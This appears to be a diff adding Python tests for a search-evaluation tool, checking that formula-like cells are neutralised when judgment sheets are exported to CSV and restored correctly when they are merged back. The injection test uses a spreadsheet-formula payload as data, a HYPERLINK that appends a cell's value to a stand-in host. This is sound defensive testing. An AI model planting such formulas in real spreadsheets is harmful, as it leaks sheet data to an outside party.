@@ -256,3 +256,54 @@ def test_document_level_suites_pool_the_top_k_documents_not_chunks():
         {"query_id": "Q1", "target_id": "copy", "system": "a", "rank": 1},
         {"query_id": "Q1", "target_id": "other", "system": "a", "rank": 2},
     ]
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_formula_cells_are_neutralised_in_the_sheet_and_restored_on_merge(tmp_path, capsys):
+    """Ids and texts a spreadsheet would run as formulas reach the sheet behind one `'`, and
+    the merge reads back exactly the ids that were written."""
+    suite_dir = tmp_path / "poolsuite"
+    suite_dir.mkdir()
+    raw = (FIXTURES / "poolsuite" / "suite.json").read_text().replace('"tokens', '"-tokens')
+    suite = json.loads(raw.replace('"id": "Q1"', '"id": "@Q1"'))
+    suite["queries"][0]["query"] = (
+        '=HYPERLINK("http://x.test/?"&A1,"how long does an access token last")'
+    )
+    suite["queries"][1]["query"] = "'what happens when I send too many requests"
+    (suite_dir / "suite.json").write_text(json.dumps(suite, indent=2) + "\n")
+    sheet = tmp_path / "pool.csv"
+    argv = ["pool", str(suite_dir), "--systems", str(FIXTURES / "systems.yaml"), "--no-extra"]
+    assert main([*argv, "-o", str(sheet)]) == 0
+    capsys.readouterr()
+    with sheet.open(newline="", encoding="utf-8") as f:
+        cells = list(csv.reader(f))
+    assert not [c for row in cells for c in row if c.startswith(FORMULA_STARTS)]
+    assert [row[:3] for row in cells[1:]] == [
+        ["'@Q1", "'" + suite["queries"][0]["query"], "'-tokens:chunk:0"],
+        ["'@Q1", "'" + suite["queries"][0]["query"], "'-tokens:chunk:2"],
+        ["Q2", "''what happens when I send too many requests", "limits:chunk:0"],
+    ]
+    for row in cells[1:]:
+        row[-1] = "2"  # the judge's grades
+    with sheet.open("w", newline="", encoding="utf-8") as f:
+        csv.writer(f, lineterminator="\n").writerows(cells)
+    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 0
+    assert "3 added" in capsys.readouterr().out
+    judged = _judgments(suite_dir)
+    assert judged["@Q1"] == {"-tokens:chunk:1": 3, "-tokens:chunk:3": 0} | {
+        "-tokens:chunk:0": 2,
+        "-tokens:chunk:2": 2,
+    }
+    assert judged["Q2"]["limits:chunk:0"] == 2
+
+
+def test_a_sheet_csv_cannot_read_is_one_line(suite_dir, tmp_path, capsys):
+    sheet = _sheet(
+        tmp_path, ["Q1,q,tokens:chunk:0,text,x,1,1", "Q1,q,x," + "t" * 200_000 + ",x,1,1"]
+    )
+    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 2
+    assert capsys.readouterr().err == (
+        f"error: {sheet}:3: not readable as CSV (field larger than field limit (131072))\n"
+    )
